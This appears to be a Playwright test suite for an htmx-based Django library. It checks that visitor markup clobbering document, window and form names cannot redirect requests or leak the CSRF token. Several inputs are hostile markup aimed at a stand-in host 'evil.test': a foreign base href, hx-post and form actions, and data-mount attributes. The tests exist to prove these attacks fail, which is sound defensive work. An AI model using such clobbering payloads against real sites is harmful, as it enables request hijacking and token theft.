"""Markup that a visitor may write takes names that scripts read: of the document, the window and forms."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from itertools import product
from urllib.parse import quote

import pytest
import pytest_asyncio
from playwright.async_api import Request, Route, expect

from tests.browser.helpers.clobbering import READ, UNREAD
from tests.browser.helpers.desk import refresh, sit_down
from tests.browser.helpers.tab import REPORT, Tab, on_every_htmx, on_every_morph, on_newest_morph
from tests.site.keep import desk
from tests.site.models import Person

EVIL = "http://evil.test"
BLOCK = '<div id="block" class="evil">Evil</div>'
NOTICE = '<div class="mizan-session evil"><p data-mizan-when="ended">Evil</p></div>'

# Otherwise the browser complains that htmx 2 asks a foreign answer for them.
READ_BY_HTMX2 = [
    *("HX-Location", "HX-Push", "HX-Push-Url", "HX-Redirect", "HX-Refresh", "HX-Replace-Url", "HX-Reselect"),
    *("HX-Reswap", "HX-Retarget", "HX-Trigger", "HX-Trigger-After-Settle", "HX-Trigger-After-Swap"),
]


@dataclass
class Elsewhere:
    """A server of another origin, which answers whatever would be taken for ours."""

    asked: list[Request] = field(default_factory=list)

    async def answer(self, route: Route) -> None:
        """Note the request, and give what looks like a block and a notice."""
        self.asked.append(route.request)
        headers = {
            "Access-Control-Allow-Origin": "*",
            "Access-Control-Allow-Headers": "*",
            "Access-Control-Expose-Headers": ", ".join(["X-Mizan-Refresh", *READ_BY_HTMX2]),
            "X-Mizan-Refresh": "1",
        }
        await route.fulfill(body=BLOCK + NOTICE, content_type="text/html", headers=headers)

    async def told(self) -> list[str]:
        """List all that was sent there: headers and bodies."""
        return [f"{await each.all_headers()} {each.post_data}" for each in self.asked]


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere(tab: Tab) -> AsyncIterator[Elsewhere]:
    """Have the other origin answer; nothing of it may ever be in the page."""
    server = Elsewhere()
    await tab.page.route(f"{EVIL}/**", server.answer)
    yield server


def halves(names: list[str]) -> list[object]:
    """Split names between two cases."""
    middle = len(names) // 2
    return [pytest.param(names[:middle], id="first"), pytest.param(names[middle:], id="second")]


async def open_with(tab: Tab, markup: str = "", names: str = "") -> None:
    """Go to the page with somebody's markup in it; whoever was renamed has the name of before."""
    await Person.objects.filter(pk=5).aupdate(name="Ada")
    await tab.open(f"/markup/?markup={quote(markup)}&names={quote(names)}")


async def csrf_cookie(tab: Tab) -> str:
    """Return the value of the cookie, past what markup lays over ``document.cookie``."""
    cookies = {each["name"]: each["value"] for each in await tab.page.context.cookies(tab.address)}
    return cookies["csrftoken"]


async def change(tab: Tab) -> None:
    """Rename by the page's own form, and wait until both blocks show it."""
    # By the element itself: Playwright reads forms by the names that are taken here.
    await tab.page.locator("#send button").evaluate("(button) => button.click()")
    await expect(tab.page.locator("#plain b")).to_have_text("Grace")
    await expect(tab.page.locator("#block b")).to_have_text("Grace")
    await tab.happens("refreshed", 2)


# ---- the document


@pytest.mark.parametrize("tag", ['<img name="{}"{}>', '<form name="{}"{}></form>'])
async def test_a_name_of_the_document_is_read_from_the_document(
    tab: Tab, elsewhere: Elsewhere, tag: str
) -> None:
    evil = f' data-mount="{EVIL}/" data-socket="{EVIL}/" data-csrf-cookie="sessionid" data-session="f"'
    for name in ("currentScript", "cookie", "hidden", "dispatchEvent", "getElementById", "activeElement"):
        await open_with(tab, tag.format(name, evil))
        await change(tab)
        assert tab.batches == [["user;user_id=5"] * 2], name
        assert elsewhere.asked == [], name
        tab.batches.clear()


@on_every_htmx
async def test_the_notice_of_a_session_comes_from_this_site(tab: Tab, elsewhere: Elsewhere) -> None:
    await open_with(
        tab, f'<img name="currentScript" data-mount="{EVIL}/" data-login="/none/" data-session="f">'
    )
    await tab.page.context.add_cookies([{"name": "trouble", "value": "login", "url": tab.address}])
    async with tab.forgive(REPORT):
        await tab.invalidate("user")
        await expect(tab.page.locator(".mizan-session")).to_be_visible()
    await expect(tab.page.locator(".evil")).to_have_count(0)
    assert elsewhere.asked == []


@on_every_htmx
async def test_a_cookie_is_read_beside_an_image_of_that_name(tab: Tab) -> None:
    await open_with(tab, '<img name="cookie">')
    bare = 'document.querySelector("[name=cookie]").remove()'
    laid = """document.body.insertAdjacentHTML("beforeend", '<img name="cookie">')"""
    note = 'document.cookie = "mizan_invalidate=0123456789abcdef:user; Path=/"'
    await tab.page.evaluate(f"() => {{ {bare}; {note}; {laid}; dispatchEvent(new Event('pageshow')) }}")
    await tab.happens("refreshed", 2)
    await tab.page.evaluate(bare)
    assert "mizan_invalidate" not in await tab.page.evaluate("document.cookie")


async def test_of_cookies_with_one_name_the_token_is_the_one_that_django_takes(tab: Tab) -> None:
    # For a longer path, so that it comes first.
    await tab.page.context.add_cookies(
        [{"name": "csrftoken", "value": "p" * 32, "url": tab.address + "/markup/"}]
    )
    await open_with(tab)
    assert (await tab.page.evaluate("document.cookie")).count("csrftoken=") == 2
    await change(tab)


# ---- the window


async def test_a_heading_may_have_any_id(tab: Tab) -> None:
    for name, count in product(("mizan", "htmx", "Idiomorph", "addEventListener"), (1, 2)):
        await open_with(tab, f'<h2 id="{name}">A heading</h2>' * count)
        await change(tab)


@on_newest_morph
async def test_headings_keep_their_ids_and_their_text(tab: Tab) -> None:
    await open_with(tab, '<h2 id="mizan-announcements">Announcements</h2>')
    await change(tab)
    await expect(tab.page.locator("[role=status]")).to_have_text("renamed")
    await expect(tab.page.locator("h2")).to_have_text("Announcements")
    await expect(tab.page.locator("#plain h3")).to_have_id("mizan-keep-1")


async def test_a_frame_may_have_any_name(tab: Tab) -> None:
    await open_with(tab, '<iframe name="mizan" src="about:blank"></iframe>')
    await change(tab)


# ---- forms


@on_every_morph
async def test_a_form_may_have_controls_of_many_names(tab: Tab, htmx: str) -> None:
    more = ["querySelector", "contains"] if htmx[0] == "4" else ["cloneNode", "parentNode", "elements"]
    await open_with(tab, names=" ".join([*UNREAD, *more]))
    await change(tab)
    await expect(tab.page.locator("[aria-busy]")).to_have_count(0)
    await expect(tab.page.locator(".mizan-stale")).to_have_count(0)


# In the page: Playwright's own checks read such a form as htmx does.
TYPE = """([selector, text]) => {
    const form = Document.prototype.querySelector.call(document, selector);
    const control = Element.prototype.querySelector.call(form, "input");
    control.value = text;
    control.dispatchEvent(new Event("input", { bubbles: true }));
}"""
TYPED = """(selector) => {
    const form = Document.prototype.querySelector.call(document, selector);
    const { value, form: owner } = Element.prototype.querySelector.call(form, "input");
    return [value, owner === form, Element.prototype.getAttribute.call(form, "data-mizan-error")];
}"""


@on_newest_morph
@pytest.mark.parametrize("names", halves(READ))
async def test_a_block_is_refreshed_by_whatever_names_its_form_has(tab: Tab, names: list[str]) -> None:
    for name in names:
        await expect_refreshed(tab, name)


async def expect_refreshed(tab: Tab, name: str) -> None:
    """Expect blocks whose forms have a control of this name to be refreshed, with what was typed."""
    control = f'<input name="{name}" required>'
    # What is looked at without a morph: what stays, and the scripts that are not in it.
    kept = f'<form data-mizan-keep>{control}</form><script type="application/json">1</script>'
    inner = f'<form id="inner">{control}</form>{kept}'
    with desk("<b>1</b>" + inner, form="<b>1</b>" + control) as now:
        await tab.open("/keep/forms/")
        await tab.page.wait_for_load_state("load")
        # htmx 4 may have bound the page before the shim was there.
        await tab.forget("is not a function")
        for times in (1, 2):
            now.html.update(main=f"<b>{times + 1}</b>" + inner, form=f"<b>{times + 1}</b>" + control)
            for selector in ("#form", "#inner"):
                await tab.page.evaluate(TYPE, [selector, "typed"])
            await tab.invalidate("desk")
            await tab.page.wait_for_function(
                "(text) => [...document.querySelectorAll('main b')].every((it) => it.textContent === text)",
                arg=str(times + 1),
            )
            await tab.happens("refreshed", 2 * times)
            for selector in ("#form", "#inner"):
                assert await tab.page.evaluate(TYPED, selector) == ["typed", True, None]


@pytest.mark.parametrize("htmx", ["4.0.1"], ids="htmx{}".format, indirect=True)
@pytest.mark.parametrize("name", ["addEventListener", "closest"])
async def test_what_htmx_failed_at_before_the_shim_was_there_is_bound(tab: Tab, name: str) -> None:
    failed = asyncio.Event()
    tab.page.once("pageerror", lambda _: failed.set())

    async def hold(route: Route) -> None:
        await failed.wait()
        await route.continue_()

    await tab.page.route("**/mizan.*js", hold)
    html = '<b>{}</b><input name="' + name + '">'
    button = '<button hx-get="/keep/part/piece/" hx-target="#there">Go</button><p id="there"></p>'
    with desk(html.format(1)) as now:
        now.tags, now.around, now.parts = {"main": "form"}, {"main": ("", button)}, {"piece": "here"}
        await sit_down(tab)
        await tab.page.wait_for_load_state("load")
        async with tab.forgive("is not a function"):
            now.html["main"] = html.format(2)
            await refresh(tab)
            assert await tab.page.evaluate("document.querySelector('#main b').textContent") == "2"
            await tab.page.locator("main > button").click()
            await expect(tab.page.locator("#there")).to_have_text("here")


CHOSEN = """() => [...document.querySelectorAll("input:checked")].map(({ form, name, value }) =>
    `${form?.getAttribute("id")} ${name}=${value}`)"""


@on_newest_morph
async def test_choices_that_htmx_is_kept_from_are_not_chosen_away(tab: Tab) -> None:
    def choice(name: str, chosen: str, more: str = "") -> str:
        boxes = [(it, " checked" if it == chosen else "") for it in "ab"]
        return "".join(f'<input type="radio" name="{name}" value="{it}"{on}{more}>' for it, on in boxes)

    forms = {
        "one": choice("matches", "b"),
        "two": choice("matches", "a"),
        "three": choice("c", "a", ' id="closest"'),
    }
    html = "".join(f'<form id="{id_}">{inner}</form>' for id_, inner in forms.items())
    chosen = ["one matches=b", "two matches=a", "three c=a", "undefined c=b"]
    with desk("<b>1</b>") as now:
        now.around = {"main": ("", html + choice("c", "b"))}
        await sit_down(tab)
        assert await tab.page.evaluate(CHOSEN) == chosen
        now.html["main"] = "<b>2</b>"
        await refresh(tab)
        assert await tab.page.evaluate(CHOSEN) == chosen
        now.html["main"] = html
        await refresh(tab, 2)
        await tab.page.evaluate("document.querySelector('#main [name=matches]').checked = true")
        await refresh(tab, 3)
        assert await tab.page.evaluate(CHOSEN) == ["one matches=a", *chosen[1:3], *chosen]


# Fills in all fields, the one called "closest" with this, and sends the form.
SEND = """(text) => {
    for (const it of Document.prototype.querySelectorAll.call(document, "form :is(input, select)")) {
        if (it.type === "checkbox") it.checked = true;
        else if (it.options) for (const each of it.options) each.selected = each.value !== "b";
        else if (it.type !== "hidden") it.value = it.name === "closest" ? text : "text";
    }
    Document.prototype.querySelector.call(document, "form button").click();
}"""


async def test_a_form_of_the_server_s_is_sent_with_what_htmx_reads(tab: Tab) -> None:
    # In the page, as above.
    shows = "(css) => Document.prototype.querySelector.call(document, css) !== null"
    await tab.open("/forms/taken/")
    async with tab.answered(422):
        await tab.page.evaluate(SEND, "ab")
        await tab.page.wait_for_function(shows, arg="[name=closest][aria-invalid=true]")
    await tab.page.wait_for_function(f"(css) => !({shows})(css)", arg="form[aria-busy]")
    await tab.page.evaluate(SEND, "abc")
    await tab.page.wait_for_function(shows, arg="[data-mizan-done], [role=status]:not(:empty)")
    assert tab.posts.count("/form/taken/") == 2


@on_newest_morph
@pytest.mark.parametrize("names", halves(UNREAD))
async def test_what_is_typed_into_it_stays(tab: Tab, names: list[str]) -> None:
    for name in names:
        await open_with(tab, names=name)
        await tab.page.get_by_label(f"In the block: {name}").fill("typed")
        await change(tab)
        await expect(tab.page.get_by_label(f"In the block: {name}")).to_have_value("typed")


async def test_a_form_of_the_server_s_may_have_them_too(tab: Tab) -> None:
    await tab.open("/forms/shadows/")
    errors = tab.page.locator("form .errorlist li")
    await tab.page.locator("[name=id]").focus()
    await tab.page.keyboard.press("Tab")
    await expect(errors).to_have_text(["This field is required."])
    await tab.page.locator("[name=action]").fill("many")
    async with tab.answered(422):
        await tab.page.keyboard.press("Enter")
        await expect(errors).to_have_text(["This field is required.", "Enter a valid email address."])
    await expect(tab.page.locator("[name=action]")).to_have_value("many")
    await expect(tab.page.locator("form[aria-busy]")).to_have_count(0)
    await tab.page.locator("[name=id]").fill("7")
    await tab.page.locator("[name=action]").fill("ada@example.org")
    await tab.page.keyboard.press("Enter")
    await expect(tab.page.get_by_role("status")).to_have_text("Sent.")
    assert tab.posts.count("/form/shadows/") == 2


@on_every_htmx
async def test_what_htmx_could_not_swap_in_is_not_refreshed(tab: Tab) -> None:
    await open_with(tab)
    error = await tab.page.evaluate(
        """() => new Promise((done) => {
            // The first breaks any swap of htmx 4, the second those of htmx 2 that preserve something.
            const html = '<img class="evil" name="createElement"><img class="evil" name="querySelector">';
            document.body.insertAdjacentHTML("beforeend", html);
            addEventListener("htmx:beforeSwap", ({ detail }) => {
                detail.serverResponse = detail.serverResponse.replace("<h3", "<h3 hx-preserve");
            }, { capture: true, once: true });
            for (const name of ["error", "refreshed"]) {
                addEventListener(`mizan:${name}`, ({ target, type, detail }) =>
                    target.id === "plain" && done([type, detail.status, detail.message]));
            }
            mizan.invalidate("user");
        })"""
    )
    assert error[:2] == ["mizan:error", 200]
    assert "which htmx could not swap in" in error[2]
    await tab.page.evaluate(
        "Document.prototype.querySelectorAll.call(document, '.evil').forEach((each) => each.remove())"
    )
    await tab.forget(".")
    await tab.page.evaluate("mizan.invalidate('user')")
    await expect(tab.page.locator("[data-mizan-error]")).to_have_count(0)


# ---- other origins


@on_every_htmx
async def test_a_block_of_another_origin_is_not_asked_for(tab: Tab, elsewhere: Elsewhere) -> None:
    foreign = f'<div id="foreign" data-mizan="user" hx-get="{EVIL}/" hx-trigger="mizan:refresh">Old</div>'
    await open_with(tab, foreign)
    async with tab.forgive(f"{REPORT}.*it is not of this origin, and was not sent"):
        await change(tab)
        await tab.happens("error", 1)
    await expect(tab.page.locator("#foreign")).to_have_attribute("data-mizan-error", "0")
    await expect(tab.page.locator("#foreign")).to_have_text("Old")
    assert elsewhere.asked == []


async def test_another_base_sends_nothing_elsewhere(tab: Tab, elsewhere: Elsewhere) -> None:
    await open_with(tab, f'<base href="{EVIL}/">')
    async with tab.forgive(f"{REPORT}.*it is not of this origin, and was not sent"):
        await tab.invalidate("user")
        await tab.happens("error", 2)
    assert elsewhere.asked == []


@on_every_htmx
async def test_a_request_to_another_origin_carries_no_token(tab: Tab, elsewhere: Elsewhere) -> None:
    own = '<form id="own" data-mizan-form="x" action="/own/"><input name="a" value="1"></form>'
    send = f'hx-post="{EVIL}/" hx-swap="none" hx-include="#own"'
    await open_with(tab, f'{own}<form id="foreign" {send}><button>Go</button></form>')
    token = await csrf_cookie(tab)
    await tab.page.evaluate("() => { htmx.config.selfRequestsOnly = false; htmx.config.mode = 'cors'; }")
    await tab.page.evaluate(
        """() => new Promise((done) => {
            for (const name of ["htmx:afterRequest", "htmx:finally:request"]) {
                addEventListener(name, () => done());
            }
            document.querySelector("#foreign button").click();
        })"""
    )
    sent = [each for each in elsewhere.asked if each.method == "POST"]
    assert [("x-csrftoken" in await each.all_headers(), each.post_data) for each in sent] == [(False, "a=1")]
    assert not any(token in each for each in await elsewhere.told())


async def test_a_form_of_another_origin_is_none_of_ours(tab: Tab, elsewhere: Elsewhere) -> None:
    addresses = f'data-mizan-validate="{EVIL}/check/" action="{EVIL}/send/"'
    form = (
        f'<form id="f" data-mizan-form="x" method="post" {addresses}>'
        '<input id="q" name="q"><button>Go</button></form>'
    )
    await open_with(tab, form)
    token = await csrf_cookie(tab)
    await tab.page.locator("#q").fill("hello")
    await tab.page.locator("#q").press("Tab")
    async with tab.page.expect_response(f"{EVIL}/send/"):
        await tab.page.locator("#f button").click()
    assert [each.url for each in elsewhere.asked if "favicon" not in each.url] == [f"{EVIL}/send/"]
    assert not any(token in each for each in await elsewhere.told())


@pytest.mark.parametrize("place", ["inside", "beside"])
async def test_an_image_may_send_a_form_elsewhere_without_the_token(
    tab: Tab, elsewhere: Elsewhere, place: str
) -> None:
    image = f'<input type="image" id="go" form="f" alt="Go" formaction="{EVIL}/send/">'
    inside, beside = (image, "") if place == "inside" else ("", image)
    form = f'<form id="f" data-mizan-form="x" method="post" action="/own/"><input name="q">{inside}</form>'
    await open_with(tab, form + beside)
    token = await csrf_cookie(tab)
    async with tab.page.expect_response(f"{EVIL}/send/**"):
        await tab.page.locator("#go").click()
    assert not any(token in each for each in await elsewhere.told())
